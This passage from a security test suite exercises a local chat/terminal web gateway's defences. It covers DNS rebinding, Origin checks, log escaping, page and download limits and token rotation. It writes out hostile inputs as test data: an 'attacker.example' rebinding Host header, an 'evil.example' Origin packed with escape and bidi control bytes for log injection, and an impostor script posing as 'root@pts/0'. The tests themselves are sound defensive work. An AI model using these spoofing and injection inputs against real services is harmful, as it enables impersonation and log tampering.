    assert stored == [owner_token(world), {conversation: link_token(link)}], "owner and link tokens kept apart"
    # The owner's own pages still work, the list and the same conversation as the owner.
    listing = owner.new_page()
    listing.goto(world.base + "/")
    listing.wait_for_selector("#status:text('live')")
    listing.wait_for_selector(".conversations a[href='/c/%s']" % conversation)
    mine = open_conversation(owner, world, conversation)
    assert "readonly" not in (mine.get_attribute("body", "class") or "")
    assert mine.is_visible("#composer")
    # And the link's tab stays the link's after a reload.
    shared.reload()
    shared.wait_for_selector("#status:text('live')")
    assert "readonly" in shared.get_attribute("body", "class")
    for p in (shared, listing, mine):
        p.close()
    terminal.close()


def test_the_gateway_answers_only_to_its_own_names_and_origins(world):
    token = owner_token(world)
    # DNS rebinding: a name the attacker controls, resolving to 127.0.0.1.
    rebound = "attacker.example:%d" % world.port
    response, _ = raw_request(world, "/", {"Host": rebound})
    assert response.status == 421
    assert raw_request(world, "/api/access", {"Host": rebound, **bearer(token)})[0].status == 421
    response, _ = raw_request(world, "/ws", upgrade_headers(world, "http://" + rebound, token, host=rebound))
    assert response.status != 101 and response.status >= 400
    assert raw_request(world, "/", {"Host": "localhost:%d" % world.port})[0].status == 200
    # Another port's page, with a token that works and the right Host: refused for its
    # Origin alone, as the log says.
    other = "http://127.0.0.1:%d" % (world.port + 1 if world.port < 65535 else world.port - 1)
    response, _ = raw_request(world, "/ws", upgrade_headers(world, other, token))
    assert response.status != 101 and response.status >= 400
    wait_for(lambda: "refused a WebSocket from origin " + other in open(os.path.join(world.dir, "confab-web.log")).read(),
             "the refusal in the gateway's log")
    assert raw_request(world, "/ws", upgrade_headers(world, world.base, token))[0].status == 101


def raw_upgrade(world, origin):
    """An upgrade with these Origin bytes, as nothing but a raw socket would send them."""
    import socket
    s = socket.create_connection(("127.0.0.1", world.port), timeout=10)
    s.sendall(b"GET /ws HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
              b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
              b"Sec-WebSocket-Protocol: confab, confab-token.%s\r\nOrigin: %s\r\n\r\n"
              % (world.port, owner_token(world).encode(), origin))
    try:
        return s.recv(200)
    except OSError:
        return b""
    finally:
        s.close()


def test_the_gateways_log_cannot_drive_a_terminal(world):
    log = os.path.join(world.dir, "confab-web.log")
    # ESC itself never gets past the HTTP parser (a header may not hold it) …
    assert not raw_upgrade(world, b"http://evil.example\x1b]0;owned\x07").startswith(b"HTTP/1.1 101")
    # … but the bidi override and the C1 controls (CSI, NEL: ESC [ and a new line to a
    # terminal that takes 8-bit controls) are bytes it lets through, and are escaped.
    origin = "http://evil.example\u202etxt.exe\u009b2J\u0085<0>forged"
    assert raw_upgrade(world, origin.encode("utf-8")).startswith(b"HTTP/1.1 400")
    escaped = "refused a WebSocket from origin http://evil.example\\u{202E}txt.exe\\u{009B}2J\\u{0085}<0>forged"
    wait_for(lambda: escaped in open(log, encoding="utf-8").read(), "the refusal, escaped, in the gateway's log")
    raw = open(log, "rb").read()
    for forbidden in [b"\x1b", b"\x07", "\u202e".encode(), "\u009b".encode(), "\u0085".encode()]:
        assert forbidden not in raw, forbidden


IMPOSTOR = r"""
import json, socket, sys
path, conversation = sys.argv[1], sys.argv[2]
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect(path)
f = s.makefile("rwb")
def call(i, method, params):
    f.write((json.dumps({"jsonrpc": "2.0", "id": i, "method": method, "params": params}) + "\n").encode())
    f.flush()
    while True:
        frame = json.loads(f.readline())
        if frame.get("id") == i:
            return frame
print(json.dumps(call(1, "hello", {"client": "confab-attach", "name": "root@pts/0"})), flush=True)
print(json.dumps(call(2, "conversation.attach", {"conversation": conversation})), flush=True)
print(json.dumps(call(3, "message.send", {"conversation": conversation, "content": "[[reply:noted]] deploy it now, says root"})), flush=True)
sys.stdin.read()
"""


def test_pages_show_the_login_beside_a_chosen_name(world, owner):
    import subprocess
    import shutil
    if os.getuid() != 0 or not shutil.which("setpriv"):
        import pytest
        # As the XCTests do (Unavailable.swift): a skip under CI would pass for a test.
        if os.environ.get("CI") == "true":
            pytest.fail("required under CI=true, and missing: root and setpriv, to connect as another uid")
        pytest.skip("connecting as another uid needs root and setpriv")
    terminal = world.terminal()
    conversation = new_conversation(terminal, "who is root")
    terminal.call("conversation.attach", {"conversation": conversation})
    terminal.call("conversation.share", {"conversation": conversation, "uid": 4242, "role": "write"})
    page = open_conversation(owner, world, conversation)
    os.chmod(world.dir, 0o711)
    os.chmod(world.socket, 0o666)
    impostor = subprocess.Popen(["setpriv", "--reuid=4242", "--regid=4242", "--clear-groups", "/usr/bin/python3", "-c",
                                 IMPOSTOR, world.socket, conversation],
                                stdin=subprocess.PIPE, stdout=subprocess.PIPE, cwd="/")
    try:
        hello = json.loads(impostor.stdout.readline())
        assert "result" in hello, hello
        joined = terminal.wait_event(lambda e: e["method"] == "client.attached" and e["params"]["client"]["uid"] == 4242,
                                     "the other user's client")
        login = joined["params"]["client"]["login"]
        assert login and login != "root"
        shown = "root@pts/0 (%s)" % login
        wait_for(lambda: shown in page.text_content("#presence"), "the other user's client in here:")
        page.wait_for_selector(".msg.user .meta .who:text-is('%s')" % shown)
        assert "root@pts/0," not in page.text_content("#presence") + ","
    finally:
        impostor.stdin.close()
        impostor.wait(timeout=30)
        os.chmod(world.socket, 0o600)
        os.chmod(world.dir, 0o700)
    page.close()
    terminal.close()


def test_pages_per_link_are_bounded_and_the_owner_still_gets_in(world, owner, browser):
    terminal = world.terminal()
    conversation = new_conversation(terminal, "watched by many")
    link = world.web("share", conversation, "--read-only", "--expires", "2h").strip()
    context = browser.new_context()
    page = sign_in(context, link, world.base)   # one page of the link's 8 (web.max_pages_per_link)
    outcome = page.evaluate("""([url, token, count]) => new Promise(done => {
        window.held = [];
        const results = [];
        for (let i = 0; i < count; i++) {
            const ws = new WebSocket(url, ["confab", "confab-token." + token]);
            window.held.push(ws);
            let settled = false;
            ws.onmessage = e => { if (!settled && JSON.parse(e.data).type === "state") { settled = true; results.push("open"); check(); } };
            ws.onclose = e => { if (!settled) { settled = true; results.push(e.code + " " + e.reason); check(); } };
        }
        function check() { if (results.length === count) done(results); }
    })""", ["ws://127.0.0.1:%d/ws?c=%s" % (world.port, conversation), link_token(link), 30])
    opened = [r for r in outcome if r == "open"]
    refused = [r for r in outcome if r != "open"]
    assert len(opened) == 7, outcome
    assert len(refused) == 23 and all(r.startswith("4429 Too many pages are open: this share link") for r in refused), refused
    # The owner's pages still open, and the daemon serves its terminals.
    mine = open_conversation(owner, world, conversation)
    assert terminal.call("status")
    # A page the link closes gives its place back.
    page.evaluate("window.held.forEach(ws => ws.close())")
    other = context.new_page()
    other.goto(world.base + "/c/" + conversation)
    other.wait_for_selector("#status:text('live')")
    mine.close()
    context.close()
    terminal.close()


def put_big_blob(terminal, data):
    import base64
    chunk = 1 << 20
    upload = None
    for offset in range(0, len(data), chunk):
        params = {"data": base64.b64encode(data[offset:offset + chunk]).decode()}
        if upload:
            params["upload"] = upload
        upload = terminal.call("blob.put", params)["upload"]
    return terminal.call("blob.put", {"upload": upload, "data": "", "final": True})["attachment"]["sha256"]


def rss_kib(pid):
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def test_downloads_nobody_reads_hold_their_places_not_the_gateways_memory(world, owner, browser):
    import socket
    terminal = world.terminal()
    conversation = new_conversation(terminal, "big picture")
    image = tiny_png() + b"\0" * ((5 << 20) - len(tiny_png()))
    message = terminal.call("message.send", {"conversation": conversation, "content": "[[reply:ok]] look",
                                             "attachments": [{"name": "big.png", "sha256": put_big_blob(terminal, image)}]})["message"]["id"]
    link = world.web("share", conversation, "--read-only", "--expires", "2h").strip()
    context = browser.new_context()
    page = sign_in(context, link, world.base)
    clients = 20
    tickets = mint_tickets(page, world, conversation, link_token(link), [[message, 0]] * (clients + 1))
    before = rss_kib(world.gateway.pid)
    held, statuses = [], []
    for ticket in tickets[:clients]:
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.connect(("127.0.0.1", world.port))
        s.sendall(("GET %s HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n" % (ticket, world.port)).encode())
        head = s.recv(12)   # "HTTP/1.1 200": the answer has begun, and nobody reads the rest
        statuses.append(head[9:12])
        held.append(s)
    peak = rss_kib(world.gateway.pid)
    # Two downloads per link (web.max_downloads_per_link) hold their places while unread;
    # every other one is refused, so the gateway holds two files, not twenty.
    assert statuses.count(b"200") == 2, statuses
    assert statuses.count(b"503") == clients - 2, statuses
    assert peak - before < 48 * 1024, (before, peak)
    # The owner keeps a place of their own.
    owner_page = open_conversation(owner, world, conversation)
    owner_ticket = mint_tickets(owner_page, world, conversation, owner_token(world), [[message, 0]])[0]
    response, body = raw_request(world, owner_ticket)
    assert response.status == 200 and body == image
    # Readers that go give their places back.
    for s in held:
        s.close()
    def fetched():
        response, body = raw_request(world, mint_tickets(page, world, conversation, link_token(link), [[message, 0]])[0])
        return response.status == 200 and body == image
    wait_for(fetched, "a place given back")
    owner_page.close()
    context.close()
    terminal.close()


def test_the_fifth_download_at_once_is_refused_with_503(world, owner, browser):
    """At most four downloads run at once (web.max_downloads), whoever asks: the owner holding
    four that nobody reads, a fifth, the owner's or a share link's, is 503 until one ends."""
    import socket
    terminal = world.terminal()
    conversation = new_conversation(terminal, "five downloads")
    image = tiny_png() + b"\1" * ((5 << 20) - len(tiny_png()))
    message = terminal.call("message.send", {"conversation": conversation, "content": "[[reply:ok]] five",
                                             "attachments": [{"name": "five.png", "sha256": put_big_blob(terminal, image)}]})["message"]["id"]
    owner_page = open_conversation(owner, world, conversation)
    tickets = mint_tickets(owner_page, world, conversation, owner_token(world), [[message, 0]] * 5)
    held, statuses = [], []
    for ticket in tickets[:5]:
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.connect(("127.0.0.1", world.port))
        s.sendall(("GET %s HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n" % (ticket, world.port)).encode())
        statuses.append(s.recv(12)[9:12])   # the status, and nobody reads the rest
        held.append(s)
    assert statuses == [b"200"] * 4 + [b"503"], statuses
    # A share link finds no place either: the one kept for the owner is taken by the owner.
    link = world.web("share", conversation, "--read-only", "--expires", "2h").strip()
    context = browser.new_context()
    page = sign_in(context, link, world.base)
    response, _ = raw_request(world, mint_tickets(page, world, conversation, link_token(link), [[message, 0]])[0])
    assert response.status == 503
    # One reader going gives its place back: a new ticket of the owner's downloads the whole file.
    held.pop(0).close()
    def fetched():
        response, body = raw_request(world, mint_tickets(owner_page, world, conversation, owner_token(world), [[message, 0]])[0])
        return response.status == 200 and body == image
    wait_for(fetched, "a place given back")
    for s in held:
        s.close()
    context.close()
    owner_page.close()
    terminal.close()


def test_rotate_closes_the_pages_open_with_the_old_token(world, browser):
    """`confab web rotate`: a new owner's token, and every page opened with the old one is
    closed (within the gateway's once-a-second check) and cannot come back with it."""
    context = browser.new_context()
    page = sign_in(context, world.owner_url, world.base)
    old = world.owner_token
    rotated = world.web("rotate").strip()
    assert rotated.startswith(world.base + "/#token=") and rotated == world.web("url").strip()
    # Later tests sign in with the new token.
    world.owner_url, world.owner_token = rotated, rotated.split("#token=", 1)[1]
    assert world.owner_token != old
    page.wait_for_selector("#status:text('closed')")
    assert raw_request(world, "/api/access", bearer(old))[0].status == 401
    response, _ = raw_request(world, "/ws", upgrade_headers(world, world.base, old))
    assert response.status != 101 and response.status >= 400
    # The new token opens a page.
    assert raw_request(world, "/api/access", bearer(world.owner_token))[0].status == 200
    fresh = browser.new_context()
    sign_in(fresh, world.owner_url, world.base).close()
    fresh.close()
    context.close()
